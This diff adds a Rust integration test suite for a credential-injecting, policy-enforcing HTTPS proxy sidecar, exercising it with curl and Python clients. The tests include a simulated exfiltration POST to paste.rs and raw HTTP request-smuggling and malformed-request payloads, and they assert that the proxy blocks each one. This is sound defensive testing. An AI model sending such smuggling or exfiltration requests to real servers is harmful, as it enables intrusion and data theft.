@@ -1,0 +1,510 @@
+//! http_proxy mode end to end: real `firma sidecar`, curl/Python clients through `--proxy`,
+//! a local HTTPS upstream with its own CA, the shipped genai-app runtime policy and mapping
+//! rules, and the signed audit file.
+
+#[path = "common/sidecar.rs"]
+mod harness;
+
+use harness::*;
+use std::time::Duration;
+
+const CANARY: &str = "sk-canary-7f3a9c1e5b";
+
+fn openai_basic_credential() -> String {
+    "[[sidecar.credentials]]\nhost = \"api.openai.com\"\nmode = \"basic\"\nheader = \"Authorization\"\nprefix = \"Bearer \"\nvalue_from_env = \"FIRMA_TEST_OPENAI_KEY\"\n".into()
+}
+
+fn setup(settings: Settings) -> (Upstream, Deployment, Sidecar) {
+    let tmp = tempfile::tempdir().unwrap();
+    let up = Upstream::start(
+        tmp.path(),
+        &[
+            "api.openai.com",
+            "api.acme-vendor.com",
+            "paste.rs",
+            "unmapped.example",
+        ],
+    );
+    let d = Deployment::new(Some(&up), &settings);
+    // Keep the upstream CA alive with the deployment.
+    std::fs::copy(&up.ca_path, d.root().join("upstream-ca.crt")).unwrap();
+    std::mem::forget(tmp);
+    let sc = d.start(&[("FIRMA_TEST_OPENAI_KEY", CANARY)]);
+    (up, d, sc)
+}
+
+#[test]
+fn allowed_call_gets_injected_credential_and_not_the_clients_own() {
+    let (up, d, sc) = setup(Settings {
+        extra: openai_basic_credential(),
+        ..Settings::default()
+    });
+    let out = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "https://api.openai.com/v1/models?limit=1",
+        &[
+            "-H",
+            "Authorization: Bearer agent-own-key",
+            "-H",
+            "x-firma-session: s1",
+        ],
+    );
+    assert_eq!(out.status, 200, "{out:?}\n{}", sc.log_text());
+    let seen = up.seen();
+    assert_eq!(seen.len(), 1);
+    let r = &seen[0];
+    assert_eq!(r.path, "/v1/models");
+    assert_eq!(r.sni.as_deref(), Some("api.openai.com"));
+    assert_eq!(r.headers["authorization"], format!("Bearer {CANARY}"));
+    assert!(
+        r.headers.keys().all(|k| !k.starts_with("x-firma-")),
+        "{:?}",
+        r.headers
+    );
+    assert_eq!(r.headers["host"], "api.openai.com");
+    assert_eventually(Duration::from_secs(5), "allow audited", || {
+        d.audit_for("api.openai.com").iter().any(|e| {
+            e["decision"]["outcome"] == "ALLOW"
+                && e["connector"]["credential_injected"] == true
+                && e["connector"]["credential_source"] == "basic"
+                && e["envelope"]["intent"]["action_class"] == "model.inference.chat"
+                && e["envelope"]["intent"]["resource"]["path"] == "/v1/models"
+        })
+    });
+}
+
+#[test]
+fn http2_client_is_served_over_mitm() {
+    let (up, d, sc) = setup(Settings::default());
+    let out = std::process::Command::new("curl")
+        .args([
+            "-sS",
+            "--http2",
+            "--noproxy",
+            "",
+            "--proxy",
+            &sc.proxy_url(),
+            "--cacert",
+        ])
+        .arg(d.ca_cert())
+        .args([
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code} %{http_version}",
+            "https://api.openai.com/v1/models",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(text(&out.stdout), "200 2", "{}", text(&out.stderr));
+    assert_eq!(up.count(), 1);
+}
+
+#[test]
+fn exfiltration_host_denied_and_upstream_sees_nothing() {
+    let (up, d, sc) = setup(Settings {
+        extra: openai_basic_credential(),
+        ..Settings::default()
+    });
+    let out = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "https://paste.rs/",
+        &["-d", "secret=1"],
+    );
+    assert_eq!(out.status, 403, "{out:?}");
+    assert_eq!(out.json()["denied"], true);
+    assert_eq!(out.json()["reason"], "PolicyDenied");
+    assert_eq!(up.count(), 0, "a denied call must not reach the upstream");
+    assert_eventually(Duration::from_secs(5), "deny audited", || {
+        d.audit_for("paste.rs").iter().any(|e| {
+            e["decision"]["outcome"] == "DENY"
+                && e["decision"]["reason"] == "PolicyDenied"
+                && e["connector"]["credential_injected"] == false
+        })
+    });
+}
+
+#[test]
+fn unmapped_host_denied_when_default_protected() {
+    let (up, d, sc) = setup(Settings::default());
+    // Intercepted (MITM'd) but no mapping rule.
+    let out = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "https://unmapped.example/x",
+        &[],
+    );
+    assert_eq!(out.status, 403, "{out:?}");
+    assert_eq!(out.json()["reason"], "UnclassifiedIntent");
+    // Not intercepted at all: destination-level decision on CONNECT, readable 403.
+    let out = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "https://not-intercepted.example/",
+        &[],
+    );
+    assert_ne!(out.status, 200, "{out:?}");
+    assert!(out.stderr.contains("403"), "{out:?}");
+    assert_eq!(up.count(), 0);
+    assert_eventually(Duration::from_secs(5), "tunnel deny audited", || {
+        d.audit_for("not-intercepted.example")
+            .iter()
+            .any(|e| e["decision"]["reason"] == "UnclassifiedIntent")
+    });
+}
+
+#[test]
+fn vendor_calls_capped_at_100_per_session() {
+    let (up, d, sc) = setup(Settings::default());
+    let urls: Vec<String> = (0..101)
+        .map(|i| format!("https://api.acme-vendor.com/v1/send?i={i}"))
+        .collect();
+    let out = std::process::Command::new("curl")
+        .args([
+            "-sS",
+            "--noproxy",
+            "",
+            "--proxy",
+            &sc.proxy_url(),
+            "--cacert",
+        ])
+        .arg(d.ca_cert())
+        .args(["-w", "%{http_code}\n"])
+        .args(&urls)
+        .output()
+        .unwrap();
+    // Each line is the response body followed by the status code.
+    let codes: Vec<String> = text(&out.stdout)
+        .lines()
+        .map(|l| l[l.len().saturating_sub(3)..].to_string())
+        .collect();
+    assert_eq!(codes.len(), 101, "{}", text(&out.stderr));
+    assert!(codes[..100].iter().all(|c| c == "200"), "{codes:?}");
+    assert_eq!(codes[100], "403");
+    assert_eq!(up.count(), 100);
+    assert_eventually(
+        Duration::from_secs(5),
+        "101st audited as PolicyDenied",
+        || {
+            d.audit_for("api.acme-vendor.com")
+                .iter()
+                .filter(|e| e["decision"]["reason"] == "PolicyDenied")
+                .count()
+                == 1
+        },
+    );
+}
+
+#[test]
+fn rate_limit_timeout_and_unreachable_upstream_abort_with_reasons() {
+    let (up, d, sc) = setup(Settings {
+        host_extra: vec![
+            (
+                "api.openai.com".into(),
+                "rps = 1\nburst = 1\ntimeout_ms = 300".into(),
+            ),
+            ("api.acme-vendor.com".into(), "timeout_ms = 300".into()),
+        ],
+        ..Settings::default()
+    });
+    let p = sc.proxy_url();
+    let ca = d.ca_cert();
+    assert_eq!(
+        curl(&p, &ca, "https://api.openai.com/v1/models", &[]).status,
+        200
+    );
+    let limited = curl(&p, &ca, "https://api.openai.com/v1/models", &[]);
+    assert_eq!(limited.status, 429, "{limited:?}");
+    assert_eq!(limited.json()["aborted"], true);
+    assert_eq!(limited.json()["reason"], "RateLimited");
+    assert_eq!(up.count(), 1, "a rate-limited call is not sent");
+
+    let slow = curl(&p, &ca, "https://api.acme-vendor.com/slow?ms=2000", &[]);
+    assert_eq!(slow.status, 504, "{slow:?}");
+    assert_eq!(slow.json()["reason"], "UpstreamTimeout");
+    assert_eventually(Duration::from_secs(5), "aborts audited", || {
+        let ev = d.audit();
+        ev.iter()
+            .any(|e| e["connector"]["aborted"] == "RateLimited")
+            && ev
+                .iter()
+                .any(|e| e["connector"]["aborted"] == "UpstreamTimeout")
+    });
+    drop(sc);
+
+    // Upstream address with nothing listening: 502.
+    let closed = free_port();
+    let mut s = Settings::default();
+    s.upstream_hosts = vec![];
+    s.extra = format!(
+        "[[sidecar.connector.hosts]]\nhost = \"api.openai.com\"\naddress = \"127.0.0.1:{closed}\"\n"
+    );
+    d.write(Some(&up), &s);
+    let sc = d.start(&[]);
+    let out = curl(
+        &sc.proxy_url(),
+        &ca,
+        "https://api.openai.com/v1/models",
+        &[],
+    );
+    assert_eq!(out.status, 502, "{out:?}");
+    assert_eq!(out.json()["reason"], "UpstreamUnavailable");
+}
+
+#[test]
+fn upstream_with_untrusted_certificate_is_refused() {
+    let tmp = tempfile::tempdir().unwrap();
+    let up = Upstream::start(tmp.path(), &["api.openai.com"]);
+    let d = Deployment::new(Some(&up), &Settings::default());
+    // Drop the extra root: the upstream's CA is no longer trusted.
+    let cfg = std::fs::read_to_string(&d.config).unwrap();
+    let cfg: String = cfg
+        .lines()
+        .filter(|l| !l.starts_with("extra_root_certs"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    std::fs::write(&d.config, cfg).unwrap();
+    let sc = d.start(&[]);
+    let out = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "https://api.openai.com/v1/models",
+        &[],
+    );
+    assert_eq!(out.status, 502, "{out:?}");
+    assert_eq!(out.json()["reason"], "UpstreamUnavailable");
+    assert!(
+        out.json()["detail"].as_str().unwrap().contains("TLS"),
+        "{out:?}"
+    );
+    assert_eq!(up.count(), 0);
+}
+
+#[test]
+fn credential_never_leaks_to_other_hosts_audit_or_logs() {
+    let (up, d, sc) = setup(Settings {
+        extra: openai_basic_credential(),
+        ..Settings::default()
+    });
+    let p = sc.proxy_url();
+    let ca = d.ca_cert();
+    assert_eq!(
+        curl(&p, &ca, "https://api.openai.com/v1/models", &[]).status,
+        200
+    );
+    assert_eq!(
+        curl(
+            &p,
+            &ca,
+            "https://api.acme-vendor.com/v1/send",
+            &["-d", "x=1"]
+        )
+        .status,
+        200
+    );
+    assert_eq!(
+        curl(&p, &ca, "https://paste.rs/", &["-d", "x=1"]).status,
+        403
+    );
+    assert_eq!(curl(&p, &ca, "https://unmapped.example/", &[]).status, 403);
+    // Only the openai request carries it, and the raw bytes of the others never do.
+    for r in up.seen() {
+        let all = format!("{:?}{}", r.headers, String::from_utf8_lossy(&r.body));
+        if r.headers["host"] == "api.openai.com" {
+            assert!(all.contains(CANARY));
+        } else {
+            assert!(
+                !all.contains(CANARY),
+                "credential leaked to {}",
+                r.headers["host"]
+            );
+        }
+    }
+    assert_eq!(up.seen().len(), 2);
+    let mut s = sc;
+    assert!(s.terminate(Duration::from_secs(10)).is_some());
+    assert!(!d.audit_text().contains(CANARY), "credential in audit");
+    assert!(!d.audit_text().is_empty());
+    assert!(!s.log_text().contains(CANARY), "credential in logs");
+    assert!(s.log_text().contains("credential configured"));
+}
+
+#[test]
+fn strict_host_mitm_failure_denies_and_non_strict_falls_back() {
+    let (up, d, sc) = setup(Settings::default());
+    let p = sc.proxy_url();
+    // A client that does not trust the Firma CA rejects the MITM certificate.
+    let empty_ca = d.root().join("empty.pem");
+    std::fs::write(&empty_ca, "").unwrap();
+    let other_ca = &up.ca_path; // a CA that did not sign our leaf
+    let out = curl(&p, other_ca, "https://api.acme-vendor.com/v1/send", &[]);
+    assert_eq!(out.status, 0, "TLS must fail: {out:?}");
+    assert_eventually(Duration::from_secs(5), "strict failure audited", || {
+        d.audit_for("api.acme-vendor.com").iter().any(|e| {
+            e["decision"]["reason"] == "MalformedRequest"
+                && e["decision"]["detail"]
+                    .as_str()
+                    .unwrap_or("")
+                    .contains("strict host")
+        })
+    });
+    // Still intercepted (no fallback) for a client that trusts us.
+    assert_eq!(
+        curl(&p, &d.ca_cert(), "https://api.acme-vendor.com/v1/send", &[]).status,
+        200
+    );
+
+    // Non-strict host: the failure switches it to blind tunnelling with a destination decision.
+    let out = curl(&p, other_ca, "https://api.openai.com/v1/models", &[]);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert_eventually(Duration::from_secs(5), "fallback noted", || {
+        d.audit_for("api.openai.com").iter().any(|e| {
+            e["decision"]["detail"]
+                .as_str()
+                .unwrap_or("")
+                .contains("falling back")
+        })
+    });
+    let before = d.audit_for("api.openai.com").len();
+    let _ = curl(&p, &d.ca_cert(), "https://api.openai.com/v1/models", &[]);
+    assert_eventually(
+        Duration::from_secs(5),
+        "destination decision audited",
+        || {
+            d.audit_for("api.openai.com")
+                .iter()
+                .skip(before)
+                .any(|e| e["envelope"]["intent"]["method"].is_null())
+        },
+    );
+    assert_eq!(up.count(), 1);
+}
+
+#[test]
+fn malformed_input_is_denied_and_audited_without_crashing() {
+    let (up, d, sc) = setup(Settings::default());
+    let a = sc.addr;
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("garbage", b"\x00\x01\x02\x03 not http\r\n\r\n".to_vec()),
+        (
+            "oversized headers",
+            format!("GET http://api.openai.com/ HTTP/1.1\r\nHost: api.openai.com\r\nX-Big: {}\r\n\r\n", "a".repeat(70 * 1024)).into_bytes(),
+        ),
+        (
+            "CL + TE smuggling",
+            b"POST http://api.openai.com/v1/models HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(),
+        ),
+        (
+            "duplicate Content-Length",
+            b"POST http://api.openai.com/v1/models HTTP/1.1\r\nHost: api.openai.com\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab".to_vec(),
+        ),
+        ("CONNECT without port", b"CONNECT api.openai.com HTTP/1.1\r\n\r\n".to_vec()),
+        ("CONNECT garbage target", b"CONNECT %%%:x HTTP/1.1\r\n\r\n".to_vec()),
+        ("origin-form to proxy", b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n\r\n".to_vec()),
+    ];
+    for (name, bytes) in &cases {
+        let resp = raw_exchange(a, bytes);
+        assert!(resp.starts_with("HTTP/1.1 400"), "{name}: {resp:?}");
+        assert!(
+            resp.contains("\"reason\":\"MalformedRequest\""),
+            "{name}: {resp:?}"
+        );
+    }
+    // Non-TLS bytes to a MITM host after CONNECT.
+    let resp = raw_exchange(
+        a,
+        b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n\x00\x01\x02plain bytes",
+    );
+    assert!(resp.starts_with("HTTP/1.1 200"), "{resp:?}");
+    assert!(
+        resp.contains("400 Bad Request") && resp.contains("MalformedRequest"),
+        "{resp:?}"
+    );
+    // Smuggling inside the MITM'd TLS stream (curl sends what we ask).
+    let out = curl(
+        &sc.proxy_url(),
+        &d.ca_cert(),
+        "https://api.openai.com/v1/models",
+        &[
+            "--http1.1",
+            "-H",
+            "Transfer-Encoding: chunked",
+            "-H",
+            "Content-Length: 5",
+            "-d",
+            "hello",
+        ],
+    );
+    assert_eq!(out.status, 400, "{out:?}");
+    assert_eventually(
+        Duration::from_secs(5),
+        "every malformed case audited",
+        || {
+            d.audit()
+                .iter()
+                .filter(|e| e["decision"]["reason"] == "MalformedRequest")
+                .count()
+                == cases.len() + 2
+        },
+    );
+    assert_eq!(up.count(), 0);
+    // Still serving.
+    assert_eq!(
+        curl(
+            &sc.proxy_url(),
+            &d.ca_cert(),
+            "https://api.openai.com/v1/models",
+            &[]
+        )
+        .status,
+        200
+    );
+}
+
+#[test]
+fn python_requests_and_httpx_through_the_proxy() {
+    let ok = std::process::Command::new("python3")
+        .args(["-c", "import requests, httpx"])
+        .status()
+        .map(|s| s.success())
+        .unwrap_or(false);
+    if !ok {
+        eprintln!(
+            "SKIP: python3 with requests and httpx not available (pip install requests httpx)"
+        );
+        return;
+    }
+    let (up, d, sc) = setup(Settings {
+        extra: openai_basic_credential(),
+        ..Settings::default()
+    });
+    let out = std::process::Command::new("python3")
+        .arg(repo_root().join("tests/python/sidecar_clients.py"))
+        .env("HTTPS_PROXY", sc.proxy_url())
+        .env("HTTP_PROXY", sc.proxy_url())
+        .env("SSL_CERT_FILE", d.ca_cert())
+        .env("REQUESTS_CA_BUNDLE", d.ca_cert())
+        .env_remove("NO_PROXY")
+        .env_remove("no_proxy")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}\n{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["requests_openai"], 200);
+    assert_eq!(v["httpx_openai"], 200);
+    assert_eq!(v["requests_paste"], 403);
+    assert_eq!(v["httpx_paste_reason"], "PolicyDenied");
+    assert_eq!(up.count(), 2);
+    assert!(
+        up.seen()
+            .iter()
+            .all(|r| r.headers["authorization"] == format!("Bearer {CANARY}"))
+    );
+}
